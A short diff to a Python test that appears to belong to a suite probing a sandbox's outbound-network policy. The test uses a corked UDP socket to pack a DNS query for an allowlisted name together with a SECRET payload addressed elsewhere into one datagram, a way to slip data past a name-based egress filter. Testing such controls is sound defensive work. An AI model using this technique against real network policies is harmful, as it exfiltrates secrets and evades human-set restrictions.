@@ -1,12 +1,13 @@
 # class: network
 # rule: outbound_connectivity
 # policy: names.yaml
-# success: a corked socket puts a question about an allowed name and data for another place into one datagram
+# success: a corked socket puts a question about an allowed name and data for another place into one
+#   datagram
 # proof: query
 # needs: resolver
 import socket
 
-from attack import RESOLVER, SECRET, attempt
+from attack import RESOLVER, SECRET, attempt, patience
 
 UDP_CORK = 1
 
@@ -22,7 +23,7 @@ def question(*names, records=0):
 @attempt
 def ask():
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    out.settimeout(3)
+    out.settimeout(patience(3))
     out.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 1)
     out.sendto(question("api", "allowed", "example"), (RESOLVER, 53))
     out.sendto(SECRET.encode(), ("127.0.0.1", 9))
